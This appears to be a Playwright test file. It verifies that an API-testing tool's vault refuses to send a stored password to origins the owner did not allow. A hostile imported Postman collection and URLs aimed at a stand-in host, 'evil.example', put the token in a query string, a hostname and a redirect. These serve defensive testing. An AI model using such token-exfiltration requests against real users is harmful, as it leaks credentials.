import { once } from 'node:events';
import { readFile } from 'node:fs/promises';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Page } from '@playwright/test';
import { chooseFromMenu, enterAsOwner, expect, test } from './test-app.ts';
import { watchForLeaks } from './vault-leaks.ts';
import { addEntry, master, openMadeVault, unlockByMaster } from './vault-steps.ts';

test.use({ serverEnvironment: { TOOLS_ALLOW_CIDRS: '127.0.0.0/8' } });

const secret = 'CANARY-pass-4417';

/** A server on a port of its own, which is an origin of its own; it sends back what it was sent, and keeps it. */
async function startForeign(elsewhere?: string) {
  const seen: string[] = [];
  const server = createServer(({ url = '', headers }, response) => {
    seen.push(`${url} ${headers.authorization}`);
    const token = String(headers.authorization).replace('Bearer ', '');
    if (url === '/away') return response.writeHead(302, { location: `${elsewhere}/got?t=${token}` }).end();
    return response.setHeader('x-echo', String(headers.authorization)).end(JSON.stringify({ url, headers }));
  }).listen(0, '127.0.0.1');
  await once(server, 'listening');
  return { server, seen, origin: `http://127.0.0.1:${(server.address() as AddressInfo).port}` };
}

function stop(...servers: readonly Server[]): void {
  for (const server of servers) {
    server.closeAllConnections();
    server.close();
  }
}

/** What somebody sends along with a friendly mail: two of its requests go to the service, the third to somebody else. */
function postmanFile(service: string, stranger: string): string {
  const header = [{ key: 'Authorization', value: 'Bearer {{apiToken}}' }];
  const request = (name: string, raw: string) => ({ name, request: { method: 'GET', header, url: { raw } } });
  const claim = { origins: [service, stranger], allowedOrigins: [stranger] };
  return JSON.stringify({
    info: { name: 'Shop', schema: 'https://schema.getpostman.com/json/collection/v2.1.0/collection.json', ...claim },
    item: [request('Items', `${service}/items`), request('Away', `${service}/away`), request('Ping', `${stranger}/ping?t={{apiToken}}`)],
    ...claim,
  });
}

async function importCollection(page: Page, text: string): Promise<void> {
  await chooseFromMenu(page, 'Import');
  const dialog = page.getByRole('dialog', { name: 'Import requests' });
  await dialog.getByLabel('Or paste it').fill(text);
  await dialog.getByRole('button', { name: 'Import 3 requests' }).click();
  await expect(dialog).toBeHidden();
}

/** An environment whose variable is the password of the vault's only entry. */
async function makeEnvironment(page: Page): Promise<void> {
  await page.getByRole('link', { name: 'Environments' }).click();
  await page.getByRole('button', { name: 'New environment' }).click();
  await page.getByRole('button', { name: 'Add to variables' }).click();
  await page.getByLabel('Variables: name 1').fill('apiToken');
  await page.getByRole('button', { name: 'From the vault, Variables: apiToken' }).click();
  const picker = page.getByRole('dialog', { name: 'Value from the vault' });
  await picker.getByRole('radio', { name: /Example service/ }).check();
  await picker.getByRole('button', { name: 'Use this value' }).click();
  await page.getByRole('link', { name: 'Requests', exact: true }).click();
  await page.getByRole('combobox', { name: 'Environment', exact: true }).selectOption('New environment');
  await page.getByLabel('Send from').selectOption('relay');
}

test('an imported collection gets a value of the vault to no origin that the owner did not allow: asked, refused, masked, and dropped by a redirect @vault', async ({
  page,
  app,
}) => {
  test.setTimeout(240_000);
  const stranger = await startForeign();
  const service = await startForeign(stranger.origin);
  try {
    await enterAsOwner(page, app);
    await openMadeVault(page);
    await addEntry(page, 'Example service', secret);
    await page.goto('/api-lab');
    const leaks = watchForLeaks(page);
    const relayed: string[] = [];
    page.on('request', (request) => {
      if (request.url().endsWith('/api-lab-relay')) relayed.push(request.postData() ?? '');
    });
    await page.getByLabel('Master password').fill(master);
    await page.getByRole('button', { name: 'Unlock', exact: true }).click();
    await importCollection(page, postmanFile(service.origin, stranger.origin));
    await makeEnvironment(page);
    const answer = page.getByRole('region', { name: 'Answer', exact: true });
    const question = page.getByRole('alertdialog');
    const send = async (name: string) => {
      await page.getByRole('button', { name: new RegExp(`GET.*${name}`) }).click();
      await page.getByRole('button', { name: 'Send', exact: true }).click();
    };

    // The service: asked by entry, origin and method, allowed, sent, and masked where it comes back.
    await send('Items');
    await expect(question).toContainText('Send a value from your vault?');
    for (const text of [service.origin, 'Example service · password', 'GET Items']) await expect(question).toContainText(text);
    expect([service.seen, relayed]).toEqual([[], []]);
    await question.getByRole('button', { name: 'Allow and send' }).click();
    await expect(answer).toContainText('Bearer [from the vault]');
    expect(service.seen).toEqual([`/items Bearer ${secret}`]);

    // Its redirect to somebody else, with the value in the address: not followed.
    await send('Away');
    await expect(answer).toContainText(`It leads on to ${stranger.origin}, and was not followed there`);
    await expect(answer).toContainText(`${stranger.origin}/got?t=[from the vault]`);
    expect([service.seen.length, stranger.seen]).toEqual([2, []]);

    // Somebody else: asked although the collection claims otherwise, and refused.
    await send('Ping');
    await expect(question).toContainText(stranger.origin);
    await question.getByRole('button', { name: 'Do not send' }).click();
    await expect(answer).toContainText(`You did not allow it for ${stranger.origin}`);

    // Plain http to another machine, and the value in the host: refused without a question.
    for (const [address, why] of [
      ['http://evil.example/?t={{apiToken}}', 'are sent over https only'],
      ['https://{{apiToken}}.evil.example/', 'not allowed in the scheme, host or port'],
    ] as const) {
      await page.getByLabel('Address', { exact: true }).fill(address);
      await page.getByRole('button', { name: 'Send', exact: true }).click();
      await expect(answer).toContainText(why);
    }
    await page.getByLabel('Address', { exact: true }).fill(`${stranger.origin}/ping`);

    // The Runner asks for what is new before it sends anything.
    await page.getByRole('link', { name: 'Runner' }).click();
    await page.getByLabel('Collection', { exact: true }).selectOption('Shop (3)');
    await page.getByRole('button', { name: 'Run', exact: true }).click();
    await expect(question).toContainText(stranger.origin);
    await expect(question).not.toContainText(service.origin);
    await question.getByRole('button', { name: 'Do not send' }).click();
    await expect(page.getByRole('region', { name: 'Verdict' })).toContainText('The run did not start.');
    expect([service.seen.length, stranger.seen, relayed.length]).toEqual([2, [], 2]);

    // What leaves as a file names the variable.
    await page.getByRole('link', { name: 'Requests', exact: true }).click();
    await page.getByRole('button', { name: 'Settings of Shop' }).click();
    await page.getByRole('button', { name: 'Export for Postman' }).click();
    const leaving = page.getByRole('dialog', { name: 'Export for Postman' });
    await leaving.getByLabel('Current master password', { exact: true }).fill(master);
    const download = page.waitForEvent('download');
    await leaving.getByRole('button', { name: 'Save the file' }).click();
    const exported = await readFile(await (await download).path(), 'utf8');
    expect(exported).toContain('{{apiToken}}');
    expect(exported).not.toMatch(/CANARY|rigins/);
    await page.keyboard.press('Escape');
    // The relay's two requests are where the value may stand.
    expect((await leaks.find([secret])).map(({ place }) => place)).toEqual(['request', 'request']);

    // The permission is sealed with the entry, where it is seen and taken back.
    await page.goto('/dashboard#vault');
    await unlockByMaster(page);
    await page.getByRole('option', { name: 'Example service' }).click({ timeout: 60_000 });
    await page.getByRole('button', { name: 'Show password' }).click();
    await expect(page.getByText(service.origin)).toBeVisible();
    await expect(page.getByText(stranger.origin)).toBeHidden();
    await page.getByRole('button', { name: `Remove ${service.origin}` }).click();
    await expect(page.locator('.toast').filter({ hasText: `${service.origin} is no longer allowed` })).toBeVisible();
    await expect(page.getByText('May be sent to')).toBeHidden();
  } finally {
    stop(service.server, stranger.server);
  }
});
